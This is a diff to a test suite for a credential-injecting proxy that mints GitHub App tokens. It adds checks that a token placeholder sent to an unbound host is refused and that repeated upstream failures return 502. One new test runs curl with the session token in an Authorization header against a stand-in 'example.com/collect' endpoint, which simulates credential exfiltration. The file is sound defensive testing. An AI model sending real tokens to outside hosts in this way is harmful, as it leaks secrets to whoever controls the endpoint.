@@ -30,6 +30,7 @@ name: github-app-test
 allow:
   - host: api.github.com
   - host: github.com
+  - host: example.com
 credentials:
   - preset: github-app
     secret:
@@ -53,7 +54,8 @@ async function startProxy(policy: string): Promise<Proxy> {
   const holder: { airlock?: AirlockHandle } = {};
   const airlock = await startAirlock({
     policy,
-    resolve: { 'api.github.com:443': app.upstream.port, 'github.com:443': git.port },
+    // example.com too, so that even a request wrongly let through stays on this machine.
+    resolve: { 'api.github.com:443': app.upstream.port, 'github.com:443': git.port, 'example.com:443': app.upstream.port },
     upstreamCa: [pki.caPem],
     log,
     // The production wiring (cli/runtime.ts): token requests go through the runtime's upstream.
@@ -139,6 +141,15 @@ describe('GitHub App tokens through an in-process proxy', () => {
     const audit = await airlock.auditLines();
     expect(audit.filter((l) => l.host === 'api.github.com' && l.credentials?.includes('github-app'))).toHaveLength(2);
     expectNoSecrets(r.stdout + r.stderr + other.stdout + other.stderr + JSON.stringify(audit) + proxy.logLines.join('') + filesUnder(airlock.session.dir).join(''));
+  });
+
+  it('the placeholder sent to a host the credential is not bound to is refused before any token is minted', async () => {
+    const { airlock } = proxy;
+    const env = sessionEnv(airlock.session, airlock.port, home);
+    const before = app.tokenRequests.length;
+    const r = await runProcess('curl', ['-sS', '-i', '--suppress-connect-headers', '-H', `Authorization: token ${env.GH_TOKEN}`, 'https://example.com/collect'], { env, timeoutMs: 30_000 });
+    expect(r.stdout).toMatch(/^HTTP\/1\.1 403 /);
+    expect(app.tokenRequests.length).toBe(before);
   });
 
   it('git clones and pushes over HTTPS with the minted token (Basic x-access-token)', async () => {
@@ -247,7 +258,7 @@ describe('failures are clear and name no secret', () => {
     expect(r.stderr).not.toContain('ghp_notakeyatall');
   });
 
-  async function failingCase(policy: string, expectStatusText: RegExp, fix: RegExp) {
+  async function failingCase(policy: string, expectStatusText: RegExp, fix: RegExp, twice = false) {
     const proxy = await startProxy(policy);
     const home = tmpDir('airlock-github-app-home-');
     try {
@@ -266,6 +277,10 @@ describe('failures are clear and name no secret', () => {
       expectNoSecrets(r.stdout + r.stderr + logged + JSON.stringify(await proxy.airlock.auditLines()));
       // No JWT in anything the session or operator sees.
       expect(r.stdout + logged).not.toMatch(/eyJ[A-Za-z0-9_-]{10,}\./);
+      if (twice) {
+        const again = await runProcess('curl', ['-sS', '-i', '--suppress-connect-headers', '-H', `Authorization: token ${env.GH_TOKEN}`, 'https://api.github.com/repos/octo/repo'], { env, timeoutMs: 30_000 });
+        expect(again.stdout).toMatch(/^HTTP\/1\.1 502 /);
+      }
       return { attempts: app.tokenRequests.length - before, stdout: r.stdout };
     } finally {
       await proxy.airlock.close();
@@ -295,7 +310,8 @@ describe('failures are clear and name no secret', () => {
     app.mode = { lifetimeMs: 3600_000, fail: 500 };
     try {
       const started = Date.now();
-      const { attempts } = await failingCase(policyFor(), /the token endpoint answered 500/, /try again/);
+      const { attempts } = await failingCase(policyFor(), /the token endpoint answered 500/, /try again/, true);
+      // Three attempts for the first request; the second, right after, gets the same answer.
       expect(attempts).toBe(3);
       // Backoff 300 ms then 600 ms.
       expect(Date.now() - started).toBeGreaterThanOrEqual(900);
